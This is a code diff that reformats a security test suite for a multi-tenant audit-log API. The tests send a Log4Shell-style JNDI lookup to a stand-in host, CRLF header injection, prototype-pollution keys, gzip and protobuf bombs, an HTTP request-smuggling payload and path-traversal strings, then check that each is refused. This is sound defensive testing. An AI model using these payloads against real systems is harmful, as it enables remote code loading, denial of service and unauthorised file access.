@@ -1,7 +1,7 @@
-import { gzipSync } from 'node:zlib';
+import { readFileSync } from 'node:fs';
 import { request as httpRequest } from 'node:http';
 import { connect } from 'node:net';
-import { readFileSync } from 'node:fs';
+import { gzipSync } from 'node:zlib';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { IngestReply, Problem, SearchReply } from '../../src/api/contract.js';
 import { auditEvent } from '../support/events.js';
@@ -22,7 +22,8 @@ afterAll(async () => {
   removeDir(data);
 });
 
-const sealed = (key: string, events: unknown) => program.post<IngestReply>('/v1/events?wait=sealed', key, events);
+const sealed = (key: string, events: unknown) =>
+  program.post<IngestReply>('/v1/events?wait=sealed', key, events);
 
 /** Answers without what tells of time alone. */
 const stable = (text: string): string => text.replace(/"elapsed_ms":[\d.]+/g, '');
@@ -36,7 +37,10 @@ describe('T1 tenants', () => {
     const ask = async (): Promise<string[]> => {
       const answers = [
         await program.post('/v1/search', acme.key, { query: '*', ...window }),
-        await program.post('/v1/search', acme.key, { query: `trace_id:${trace} OR entity.id:pol-7`, ...window }),
+        await program.post('/v1/search', acme.key, {
+          query: `trace_id:${trace} OR entity.id:pol-7`,
+          ...window,
+        }),
         await program.post('/v1/histogram', acme.key, { query: '*', ...window, buckets: 10 }),
         await program.post('/v1/facets', acme.key, { query: '*', ...window }),
         await program.get('/v1/correlation/shared-request', acme.key),
@@ -50,7 +54,10 @@ describe('T1 tenants', () => {
     };
     const before = await ask();
     // The very same id, entity and correlation, from the other tenant.
-    const reply = await sealed(evil.key, [event, auditEvent({ correlation: { trace_id: trace, request_id: 'shared-request' } })]);
+    const reply = await sealed(evil.key, [
+      event,
+      auditEvent({ correlation: { trace_id: trace, request_id: 'shared-request' } }),
+    ]);
     expect(reply.body.accepted).toBe(2);
     expect(await ask()).toEqual(before);
   });
@@ -63,7 +70,10 @@ describe('T1 tenants', () => {
     expect([foreign.status, foreign.body.detail]).toEqual([missing.status, missing.body.detail]);
     expect((await program.get(`/v1/events/${event.event_id}/proof`, evil.key)).status).toBe(404);
     for (const path of ['checkpoint', 'vkey', 'tile/0/000.p/1', 'tile/entries/000']) {
-      const [a, b] = [await program.get<Problem>(`/ledger/${acme.id}/audit/${path}`, evil.key), await program.get<Problem>(`/ledger/nobody/audit/${path}`, evil.key)];
+      const [a, b] = [
+        await program.get<Problem>(`/ledger/${acme.id}/audit/${path}`, evil.key),
+        await program.get<Problem>(`/ledger/nobody/audit/${path}`, evil.key),
+      ];
       expect([a.status, a.body.detail]).toEqual([404, b.body.detail]);
     }
     const header = { 'x-prooflog-tenant': 'acme' };
@@ -98,24 +108,44 @@ describe('T11 prototypes', () => {
   it('keys from outside are only keys', async () => {
     for (const name of ['__proto__', 'constructor', 'prototype', 'hasOwnProperty', 'toString']) {
       const poisoned = `{"${name}":{"polluted":"yes"},${JSON.stringify(auditEvent()).slice(1)}`;
-      const { body } = await program.request<IngestReply>('POST', '/v1/events', { key: acme.key, body: poisoned });
+      const { body } = await program.request<IngestReply>('POST', '/v1/events', {
+        key: acme.key,
+        body: poisoned,
+      });
       expect(body.rejected, name).toMatchObject([{ code: 'undeclared_field' }]);
       const log = `{"resourceLogs":[{"resource":{"attributes":[{"key":"${name}","value":{"kvlistValue":{"values":[{"key":"polluted","value":{"stringValue":"yes"}}]}}}]},"scopeLogs":[{"logRecords":[{"body":{"stringValue":"${name} seen"}}]}]}]}`;
-      expect((await program.request('POST', '/v1/logs', { key: acme.key, body: log, headers: { 'content-type': 'application/json' } })).status).toBe(200);
+      expect(
+        (
+          await program.request('POST', '/v1/logs', {
+            key: acme.key,
+            body: log,
+            headers: { 'content-type': 'application/json' },
+          })
+        ).status,
+      ).toBe(200);
     }
-    const { body } = await program.eventually(() => program.post<SearchReply>('/v1/search', acme.key, { query: '"__proto__ seen"' }), (r) => r.body.records.length > 0);
+    const { body } = await program.eventually(
+      () => program.post<SearchReply>('/v1/search', acme.key, { query: '"__proto__ seen"' }),
+      (r) => r.body.records.length > 0,
+    );
     expect(Object.keys(body.records[0]?.data?.attributes ?? {})).toContain('__proto__');
-    expect((await program.post<SearchReply>('/v1/search', acme.key, { query: '__proto__:x OR constructor:y' })).status).toBe(200);
+    expect(
+      (await program.post<SearchReply>('/v1/search', acme.key, { query: '__proto__:x OR constructor:y' }))
+        .status,
+    ).toBe(200);
     expect(({} as { polluted?: string }).polluted).toBeUndefined();
   });
 });
 
 describe('T13 what hides in text', () => {
   it('is sealed as it came', async () => {
-    const note = 'a\u001b[31mred\u202eoverride\u0000nul\r\nX-Injected: 1 ${jndi:ldap://x.example/a}';
+    const note = 'a\u001b[31mred\u202eoverride\u0000nul\r\nX-Injected: 1 $' + '{jndi:ldap://x.example/a}';
     const event = auditEvent({ metadata: { safe_fields_only: true, details: { note } } });
     await sealed(acme.key, event);
-    const { body, headers } = await program.get<SearchReply['records'][number]>(`/v1/events/${event.event_id}`, acme.key);
+    const { body, headers } = await program.get<SearchReply['records'][number]>(
+      `/v1/events/${event.event_id}`,
+      acme.key,
+    );
     expect(body.metadata?.details?.note).toBe(note);
     expect(headers.get('x-injected')).toBeNull();
     expect(program.output).not.toContain('jndi');
@@ -124,12 +154,21 @@ describe('T13 what hides in text', () => {
 
 describe('T14 bombs', () => {
   it('cost no more than the limit', async () => {
-    const rss = (): number => Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${program.pid}/status`, 'utf8'))?.[1] ?? 0) / 1024;
+    const rss = (): number =>
+      Number(/VmRSS:\s+(\d+)/.exec(readFileSync(`/proc/${program.pid}/status`, 'utf8'))?.[1] ?? 0) / 1024;
     const bomb = gzipSync(Buffer.alloc(512 * 2 ** 20));
-    await program.request('POST', '/v1/events', { key: acme.key, body: bomb, headers: { 'content-encoding': 'gzip' } });
+    await program.request('POST', '/v1/events', {
+      key: acme.key,
+      body: bomb,
+      headers: { 'content-encoding': 'gzip' },
+    });
     const before = rss();
     for (let i = 0; i < 8; i++) {
-      const { status } = await program.request('POST', '/v1/events', { key: acme.key, body: bomb, headers: { 'content-encoding': 'gzip' } });
+      const { status } = await program.request('POST', '/v1/events', {
+        key: acme.key,
+        body: bomb,
+        headers: { 'content-encoding': 'gzip' },
+      });
       expect(status).toBe(413);
     }
     expect(rss() - before).toBeLessThan(64);
@@ -147,7 +186,11 @@ describe('T14 bombs', () => {
     };
     for (let i = 0; i < 2_000; i++) value = wrap(0x2a, wrap(0x0a, value));
     const body = wrap(0x0a, wrap(0x12, wrap(0x12, wrap(0x2a, value))));
-    const { status } = await program.request('POST', '/v1/logs', { key: acme.key, body, headers: { 'content-type': 'application/x-protobuf' } });
+    const { status } = await program.request('POST', '/v1/logs', {
+      key: acme.key,
+      body,
+      headers: { 'content-type': 'application/x-protobuf' },
+    });
     expect(status).toBe(400);
     expect((await program.request('GET', '/health')).status).toBe(200);
   });
@@ -174,12 +217,24 @@ describe('T19 cursors', () => {
 
 describe('T20 keys', () => {
   it('are stored hashed, work only whole, and end with their revocation', async () => {
-    const { body } = await program.post<{ id: string; key: string }>('/v1/keys', acme.key, { role: 'reader' });
+    const { body } = await program.post<{ id: string; key: string }>('/v1/keys', acme.key, {
+      role: 'reader',
+    });
     const secret = body.key.split('_').slice(2).join('_');
     expect((await program.get('/v1/fields', body.key)).status).toBe(200);
-    for (const wrong of [body.key.slice(0, -1), `${body.key}x`, body.key.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A')), body.key.toUpperCase(), ''])
-      expect((await program.request('GET', '/v1/fields', { headers: { authorization: `Bearer ${wrong}` } })).status).toBe(401);
-    for (const file of ['control.db', 'control.db-wal']) expect(readFileSync(`${data}/${file}`).includes(secret)).toBe(false);
+    for (const wrong of [
+      body.key.slice(0, -1),
+      `${body.key}x`,
+      body.key.replace(/.$/, (c) => (c === 'A' ? 'B' : 'A')),
+      body.key.toUpperCase(),
+      '',
+    ])
+      expect(
+        (await program.request('GET', '/v1/fields', { headers: { authorization: `Bearer ${wrong}` } }))
+          .status,
+      ).toBe(401);
+    for (const file of ['control.db', 'control.db-wal'])
+      expect(readFileSync(`${data}/${file}`).includes(secret)).toBe(false);
     await program.request('DELETE', `/v1/keys/${body.id}`, { key: acme.key });
     expect((await program.get('/v1/fields', body.key)).status).toBe(401);
     expect((await program.request('DELETE', `/v1/keys/${body.id}`, { key: evil.key })).status).toBe(404);
@@ -191,11 +246,22 @@ describe('T20 keys', () => {
     const first = await program.request('POST', '/v1/session', { body: JSON.stringify({ token }) });
     expect(first.status).toBe(200);
     expect(first.headers.get('set-cookie')).toMatch(/HttpOnly; SameSite=Strict/);
-    expect((await program.request('POST', '/v1/session', { body: JSON.stringify({ token }) })).status).toBe(401);
+    expect((await program.request('POST', '/v1/session', { body: JSON.stringify({ token }) })).status).toBe(
+      401,
+    );
     const cookie = (first.headers.get('set-cookie') ?? '').split(';')[0] ?? '';
     const headers = { cookie, 'x-prooflog-tenant': 'acme', 'content-type': 'application/json' };
-    expect((await program.request('POST', '/v1/search', { headers, body: '{"query":"*"}' })).status).toBe(403);
-    expect((await program.request('POST', '/v1/search', { headers: { ...headers, 'x-prooflog-csrf': '1' }, body: '{"query":"*"}' })).status).toBe(200);
+    expect((await program.request('POST', '/v1/search', { headers, body: '{"query":"*"}' })).status).toBe(
+      403,
+    );
+    expect(
+      (
+        await program.request('POST', '/v1/search', {
+          headers: { ...headers, 'x-prooflog-csrf': '1' },
+          body: '{"query":"*"}',
+        })
+      ).status,
+    ).toBe(200);
   });
 });
 
@@ -209,19 +275,29 @@ describe('T12 and T24 the door itself', () => {
     }
   });
 
-  it.each(['text/html', 'multipart/form-data; boundary=x', 'application/json-patch+json', 'application/jsonx', '*/*', 'application/xml; charset=application/json'])(
-    'refuses the content type %s',
-    async (type) => {
-      const { status } = await program.request('POST', '/v1/events', { key: acme.key, body: '{}', headers: { 'content-type': type } });
-      expect(status).toBe(415);
-    },
-  );
+  it.each([
+    'text/html',
+    'multipart/form-data; boundary=x',
+    'application/json-patch+json',
+    'application/jsonx',
+    '*/*',
+    'application/xml; charset=application/json',
+  ])('refuses the content type %s', async (type) => {
+    const { status } = await program.request('POST', '/v1/events', {
+      key: acme.key,
+      body: '{}',
+      headers: { 'content-type': type },
+    });
+    expect(status).toBe(415);
+  });
 
   it('refuses a request with two lengths', async () => {
     const { hostname, port } = new URL(program.url);
     const answer = await new Promise<string>((resolve) => {
       const socket = connect(Number(port), hostname, () =>
-        socket.write(`POST /v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${acme.key}\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/keys HTTP/1.1\r\nHost: x\r\n\r\n`),
+        socket.write(
+          `POST /v1/events HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer ${acme.key}\r\nContent-Length: 2\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /v1/keys HTTP/1.1\r\nHost: x\r\n\r\n`,
+        ),
       );
       let text = '';
       socket.on('data', (chunk) => {
@@ -235,7 +311,10 @@ describe('T12 and T24 the door itself', () => {
 
   it('survives a sender that goes away in the middle', async () => {
     await new Promise<void>((resolve) => {
-      const request = httpRequest(`${program.url}/v1/events`, { method: 'POST', headers: { authorization: `Bearer ${acme.key}`, 'content-length': '1000' } });
+      const request = httpRequest(`${program.url}/v1/events`, {
+        method: 'POST',
+        headers: { authorization: `Bearer ${acme.key}`, 'content-length': '1000' },
+      });
       request.on('error', () => resolve());
       request.write('[{"half":');
       setImmediate(() => request.destroy());
@@ -244,7 +323,17 @@ describe('T12 and T24 the door itself', () => {
   });
 
   it('knows no path outside the ledger', async () => {
-    for (const path of ['tile/../../../control.db', 'tile/entries/..%2f..%2fcontrol.db', 'tile/0/000%00', 'tile/0/0', 'tile/64/000', 'tile/00/000', 'block/..%2fvkey', 'tile/0/000.p/256', 'tile/0/000.p/0'])
+    for (const path of [
+      'tile/../../../control.db',
+      'tile/entries/..%2f..%2fcontrol.db',
+      'tile/0/000%00',
+      'tile/0/0',
+      'tile/64/000',
+      'tile/00/000',
+      'block/..%2fvkey',
+      'tile/0/000.p/256',
+      'tile/0/000.p/0',
+    ])
       expect((await program.get(`/ledger/${acme.id}/audit/${path}`, acme.key)).status, path).toBe(404);
   });
 });
